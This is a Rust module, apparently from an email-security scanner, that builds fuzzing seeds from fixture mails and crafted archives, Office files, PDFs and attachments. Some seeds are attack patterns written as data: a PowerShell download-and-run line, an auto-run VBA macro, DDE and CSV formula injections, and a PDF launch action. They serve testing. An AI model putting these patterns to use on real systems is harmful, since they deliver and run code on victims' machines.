//! What fuzzing begins with: the project's own mails and the mails of the checks' cases, and files that are built.

use crate::build::compound::Compound;
use crate::build::ooxml::{DOCM, DOCX, PPTX, document, relations, vba_project};
use crate::build::outlook::Outlook;
use crate::build::pdf::Pdf;
use crate::build::seven_zip::Coder;
use crate::build::zip::{File, deflate, overlapping, zip, zip64};
use crate::build::{
    beyond, cab, disk, iso, lnk, lzh, mails as built_mails, picture, rar, seven_zip, tar, vba, xls,
};
use std::fs;
use std::path::{Path, PathBuf};

/// The largest seed: what is mutated should be small.
const MOST_BYTES: usize = 32 * 1024;

fn root() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("../..")
}

/// The files below `folder` whose names end in `ending`, sorted.
fn below(folder: &str, ending: &str) -> Vec<PathBuf> {
    let mut folders = vec![root().join(folder)];
    let mut files = vec![];
    while let Some(folder) = folders.pop() {
        for entry in fs::read_dir(folder).into_iter().flatten().flatten() {
            let path = entry.path();
            if path.is_dir() {
                folders.push(path);
            } else if path.to_string_lossy().ends_with(ending) {
                files.push(path);
            }
        }
    }
    files.sort();
    files
}

fn contents(folder: &str, ending: &str) -> Vec<Vec<u8>> {
    let files = below(folder, ending).into_iter();
    files.filter_map(|path| fs::read(path).ok()).collect()
}

/// The blocks of the cases that are called one of `kinds`.
fn blocks(kinds: &[&str]) -> Vec<Vec<u8>> {
    let mut blocks = vec![];
    for text in contents("crates/checks/src/checks", "cases.md") {
        let text = String::from_utf8_lossy(&text).into_owned();
        for kind in kinds {
            let start = format!("\n```{kind}\n");
            let found = text.split(start.as_str()).skip(1);
            blocks.extend(found.filter_map(|rest| Some(rest.split_once("\n```")?.0.into())));
        }
    }
    blocks
}

/// Each once, the small ones.
fn small(mut seeds: Vec<Vec<u8>>) -> Vec<Vec<u8>> {
    seeds.retain(|seed| (1..=MOST_BYTES).contains(&seed.len()));
    seeds.sort();
    seeds.dedup();
    seeds
}

pub(crate) fn mails() -> Vec<Vec<u8>> {
    let mut seeds = contents("tests/fixtures/mail", ".eml");
    seeds.extend(contents("www/examples", ".eml"));
    // Every eleventh is enough for all forms that there are.
    seeds.extend(contents("tests/acceptance", ".eml").into_iter().step_by(11));
    seeds.extend(blocks(&["eml", "raw", "forwarded"]));
    seeds.push(built_mails::mail_with_winmail());
    seeds.push(built_mails::mail_with_drawn_code(
        "https://a.example/",
        true,
    ));
    small(seeds)
}

pub(crate) fn headers() -> Vec<Vec<u8>> {
    let head = |mail: Vec<u8>| {
        let text = String::from_utf8_lossy(&mail).replace("\r\n", "\n");
        text.split("\n\n").next().unwrap_or("").as_bytes().to_vec()
    };
    let mut seeds: Vec<Vec<u8>> = mails().into_iter().map(head).collect();
    seeds.extend(blocks(&["headers"]));
    small(seeds)
}

pub(crate) fn addresses() -> Vec<Vec<u8>> {
    let names = [
        "From:",
        "Reply-To:",
        "To:",
        "Cc:",
        "Sender:",
        "Return-Path:",
    ];
    let mut seeds = vec![];
    for head in headers() {
        let text = String::from_utf8_lossy(&head).into_owned();
        for line in text.lines() {
            let value = names.iter().find_map(|name| line.strip_prefix(name));
            seeds.extend(value.map(|value| value.trim().as_bytes().to_vec()));
        }
    }
    let forms = [
        "\"a \\\" b\" <\"q r\"@[192.0.2.1]>, =?utf-8?B?44GC?= (c (d)) <@x,@y:e@f.example>",
        "Group: a@b.example, c@d.example;, undisclosed-recipients:;",
        "=?utf-8?Q?a=40b.example?= <c@d.example>",
    ];
    seeds.extend(forms.map(|form| form.as_bytes().to_vec()));
    small(seeds)
}

pub(crate) fn urls() -> Vec<Vec<u8>> {
    let mut seeds = vec![];
    for mail in mails() {
        let text = String::from_utf8_lossy(&mail).into_owned();
        for range in miwake_mail::urls_in(&text) {
            seeds.extend(text.get(range).map(|url| url.as_bytes().to_vec()));
        }
    }
    let forms = [
        "http:\\\\a@b.example%2f@0x7f.1/\nexample.jp",
        "https://xn--r8jz45g.example.。jp:8080/?url=https%3A%2F%2Fb.example%2F",
        "https://nam01.safelinks.protection.outlook.com/?url=https%3A%2F%2Fa.example%2F&data=1",
        "https://urldefense.com/v3/__https://a.example/__;!!x!y$",
        "paypa1.com\npaypal.com",
    ];
    seeds.extend(forms.map(|form| form.as_bytes().to_vec()));
    small(seeds)
}

pub(crate) fn pages() -> Vec<Vec<u8>> {
    let mut seeds = blocks(&["html"]);
    for mail in mails() {
        let text = String::from_utf8_lossy(&mail).into_owned();
        seeds.extend(
            text.find("<html")
                .and_then(|at| Some(text.get(at..)?.into())),
        );
    }
    seeds.push(
        b"<style>.a[b~=c]>d{color:#fff;background:rgb(255,255,255)!important}@media print{p{display:none}}</style>\
          <base href=http://a.example/><!--[if mso]>x<![endif]--><p class=a style='font-size:0'>y<map><area href=z></map>\
          <iframe srcdoc='&lt;a href=x&gt;'></iframe><svg><a xlink:href=u><text>v</text></a></svg><noscript><p>n"
            .to_vec(),
    );
    small(seeds)
}

pub(crate) fn archives() -> Vec<Vec<u8>> {
    let (name, content) = ("明細.js", b"WScript.Echo(1)".as_slice());
    let inner = zip(&[File::new(name, content)]);
    let mut seeds = vec![
        inner.clone(),
        zip(&[
            File::new("a/b.zip", &inner),
            File::new("c.txt", b"d").stored(),
        ]),
        zip(&[File::new(name, content).locked("abc123")]),
        zip64(name, content),
        overlapping(3, content),
        cab::cab(&[(name, 0x80, content)], 1),
        cab::cab(&[("a.txt", 0, content), ("b.exe", 0, content)], 0),
        rar::rar_4(&[rar::File::new(name, content)], false),
        rar::rar_5(&[rar::File::new(name, content)], false),
        rar::rar_5(&[rar::File::new("a.txt", content)], true),
        iso::iso(&[(name, false, content)], Some(("b.lnk", content))),
        disk::udf(&[(name, false, content)], Some("c")),
        disk::fat(&[("A       TXT", 0x20, content)], None),
        tar::tar(&[(name, b'0', "", content), ("b", b'2', "c", b"")]),
        tar::gzip(Some("a.js"), content),
        tar::gzip(None, &tar::tar(&[(name, b'0', "", content)])),
        deflate(content),
    ];
    for coder in [Coder::Copy, Coder::Lzma, Coder::Lzma2, Coder::Aes] {
        let files = [seven_zip::File::new(name, Some(content))];
        seeds.push(seven_zip::seven_zip(&files, coder, true));
    }
    for (level, method) in [(0, "-lh0-"), (1, "-lh0-"), (2, "-lh0-")] {
        seeds.push(lzh::lzh(level, &[(name, method, content)]));
    }
    seeds.sort();
    seeds.dedup();
    // Disks are large however little is in them.
    seeds.retain(|seed| seed.len() <= 256 * 1024);
    seeds
}

pub(crate) fn office() -> Vec<Vec<u8>> {
    let code = "Sub AutoOpen()\n  Shell \"calc.exe\"\nEnd Sub\n";
    let project = vba_project("ThisDocument", code);
    let outside = relations(&[
        ("rId1", "attachedTemplate", "https://a.example/t.dotm", true),
        ("rId2", "hyperlink", "https://b.example/", true),
        ("rId3", "oleObject", "embeddings/oleObject1.bin", false),
    ]);
    let body = b"<w:document><w:body><w:p><w:fldSimple w:instr=\"DDEAUTO cmd x\"/><w:t>a</w:t></w:p></w:body></w:document>";
    let source = vba::module("ThisDocument", code);
    let mut word = vec![0xec, 0xa5, 0xc1, 0];
    word.resize(1_024, 0);
    let old = Compound::new().stream("WordDocument", &word);
    let old = vba::Project {
        modules: &[("ThisDocument", &source)],
        compiled: &[],
        identifiers: &[],
    }
    .put(old, "Macros");
    let sheets = [
        xls::bof(5),
        xls::sheet("Macro1", 2, 1),
        xls::built_in_name(1),
        xls::record(10, b""),
        xls::bof(0x40),
        xls::call(110, &["notepad.exe", "https://sheet.example/x"]),
        xls::dde("cmd", "/c echo"),
        xls::record(10, b""),
    ];
    let mut seeds = vec![
        document(DOCX, &[("word/document.xml", body), ("word/_rels/document.xml.rels", &outside)]),
        document(DOCM, &[("word/vbaProject.bin", &project)]),
        document(PPTX, &[("ppt/_rels/presentation.xml.rels", &outside)]),
        built_mails::workbook(),
        old.build(),
        Compound::new().stream("Workbook", &sheets.concat()).build(),
        project,
        b"{\\rtf1{\\object\\objautlink\\objupdate{\\*\\objdata 0105000002000000}}{\\field{\\*\\fldinst HYPERLINK \"https://a.example\"}}}".to_vec(),
        b"<?xml version=\"1.0\"?><?mso-application progid=\"Word.Document\"?><w:wordDocument w:macrosPresent=\"yes\"/>".to_vec(),
        b"a,b\r\n=cmd|' /c calc'!A0,1\r\n".to_vec(),
    ];
    let large = [beyond::monikers(), beyond::note_names(), beyond::formulas()];
    seeds.extend(large.into_iter().map(|(_, file)| file));
    small(seeds)
}

pub(crate) fn outlook() -> Vec<Vec<u8>> {
    let item = Outlook::note("件名")
        .from("Aoba", "a@aoba.example")
        .recipient(1, "b", "b@example.jp")
        .text(0x1000, "本文 https://a.example/")
        .file("a.zip", "application/zip", &zip(&[File::new("b.js", b"c")]));
    let inner = Outlook::note("inner").text(0x1000, "x");
    let rtf = crate::build::outlook::compress_rtf(
        b"{\\rtf1\\ansi\\fromhtml1{\\*\\htmltag <a href=\"https://a.example\">}x}",
    );
    let outer = Outlook::note("outer")
        .binary(0x1009, &rtf)
        .embed("i", inner);
    small(vec![
        item.msg(),
        item.tnef(),
        outer.msg(),
        outer.tnef(),
        rtf,
    ])
}

pub(crate) fn pdfs() -> Vec<Vec<u8>> {
    let action = "/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>";
    let link =
        "/Annots [<< /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (https://a.example/) >> >>]";
    let text = "BT /F1 12 Tf 72 700 Td (Click \\050here\\051) Tj [(a) 20 (b)] TJ ET";
    let launch = "/AA << /O << /S /Launch /F (cmd.exe) >> >>";
    let seeds = vec![
        Pdf::page(action, link, text).build(),
        Pdf::page(launch, "", text).build(),
        Pdf::page("", link, text)
            .objects(
                9,
                &[
                    (7, "<< /S /URI /URI <68747470> >>"),
                    (8, "[7 0 R null true -1.5]"),
                ],
            )
            .build(),
        Pdf::page("/Names << /EmbeddedFiles 7 0 R >>", "", text)
            .stream(7, "/Type /EmbeddedFile", b"MZ")
            .raw_stream(
                8,
                "/Filter [/ASCIIHexDecode /ASCII85Decode /RunLengthDecode]",
                b"4142>",
            )
            .build(),
        beyond::fonts().1,
    ];
    small(seeds)
}

pub(crate) fn pictures() -> Vec<Vec<u8>> {
    let modules = picture::code(b"https://a.example/");
    let rows = picture::pixels(&modules, 2);
    let seeds = vec![
        picture::png(&rows, None),
        picture::png(&rows, Some((65_535, 65_535))),
        picture::bmp(&rows),
        picture::gif(&modules, 2),
        picture::half_blocks(&modules).into_bytes(),
        // The beginning of a JPEG of 8 by 8 shades.
        b"\xff\xd8\xff\xe0\0\x10JFIF\0\x01\x01\0\0\x01\0\x01\0\0\xff\xc0\0\x0b\x08\0\x08\0\x08\x01\x01\x11\0\xff\xda\0\x08\x01\x01\0\0\x3f\0\x7f\xff\xd9".to_vec(),
    ];
    small(seeds)
}

/// With the name as the first line.
pub(crate) fn files() -> Vec<Vec<u8>> {
    let named = |name: &str, content: &[u8]| [name.as_bytes(), b"\n", content].concat();
    let built = built_mails::files_alone().into_iter();
    let mut seeds: Vec<Vec<u8>> = built.map(|(name, file, _)| named(name, &file)).collect();
    let shortcut = lnk::Lnk {
        share: Some(("\\\\a.example\\s", "b.exe")),
        icon: "c.ico",
        url: "https://a.example/",
        ..lnk::Lnk::default()
    };
    seeds.push(named("a.lnk", &shortcut.build()));
    let texts = [
        ("a.url", "[InternetShortcut]\r\nURL=file://a.example/b\r\n"),
        (
            "a.js",
            "var u='https://a.example/';eval(unescape('%61'));new ActiveXObject('WScript.Shell').Run(u)",
        ),
        (
            "a.ps1",
            "iex (New-Object Net.WebClient).DownloadString('https://a.example')",
        ),
        (
            "a.svg",
            "<!DOCTYPE svg [<!ENTITY a 'b'>]><svg xmlns='http://www.w3.org/2000/svg'><script>x</script><a href='&a;'/></svg>",
        ),
        (
            "a.html",
            "<script>var b=new Blob([atob('TVo=')]);location='data:text/html,x'</script>",
        ),
        (
            "a.ics",
            "BEGIN:VCALENDAR\r\nBEGIN:VEVENT\r\nDESCRIPTION:https://a.example/\r\n  b\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n",
        ),
        ("a.reg", "Windows Registry Editor Version 5.00\r\n"),
        (
            "a.xml",
            "<?xml version='1.0'?><x:html xmlns:x='http://www.w3.org/1999/xhtml'><x:script>a</x:script></x:html>",
        ),
        ("a.csv", "=DDE(\"cmd\";\"/c calc\";\"a\")\r\n"),
        ("a.eml", "From: a@b.example\r\nSubject: c\r\n\r\nd"),
        ("a.rdp", "full address:s:a.example\r\n"),
        (
            "a.mht",
            "MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=b\r\n\r\n--b\r\nContent-Type: text/html\r\n\r\n<script>\r\n--b--\r\n",
        ),
    ];
    seeds.extend(texts.map(|(name, text)| named(name, text.as_bytes())));
    small(seeds)
}

pub(crate) fn policies() -> Vec<Vec<u8>> {
    let mut seeds = contents("www", "policy.json");
    seeds.push(
        br#"{"organisation":"Aoba","own_domains":["aoba.example"],"partner_domains":["b.example"],"trusted_servers":["mx.example.co.jp"],
        "executives":["Aoba Hanako"],"brands":[{"name":"Aoba Bank","domains":["aoba-bank.example"]}],"words":["x"],
        "allowed_senders":["c.example","d@e.example"],"contact":{"name":"n","email":"f@g.example","phone":"1"},
        "drill":{"confirm":true}}"#
            .to_vec(),
    );
    // The policies within the contexts of cases.
    for block in blocks(&["json"]) {
        let context = serde_json::from_slice::<serde_json::Value>(&block);
        let policy = context
            .ok()
            .and_then(|context| context.get("policy").cloned());
        seeds.extend(policy.and_then(|policy| serde_json::to_vec(&policy).ok()));
    }
    small(seeds)
}

pub(crate) fn campaigns() -> Vec<Vec<u8>> {
    small(contents("www/drill/campaigns", ".json"))
}

/// Mails with the two bytes in front that say what is repeated: all of the body's beginning, or some of the fields.
pub(crate) fn repeated() -> Vec<Vec<u8>> {
    let mut mails = mails();
    mails.retain(|mail| mail.len() < 2_048);
    // Each takes a while.
    let mails = mails.into_iter().enumerate().step_by(16);
    mails
        .map(|(number, mail)| {
            let from = u8::try_from(number * 37 % 200).unwrap_or_default();
            [&[from, 24], mail.as_slice()].concat()
        })
        .collect()
}
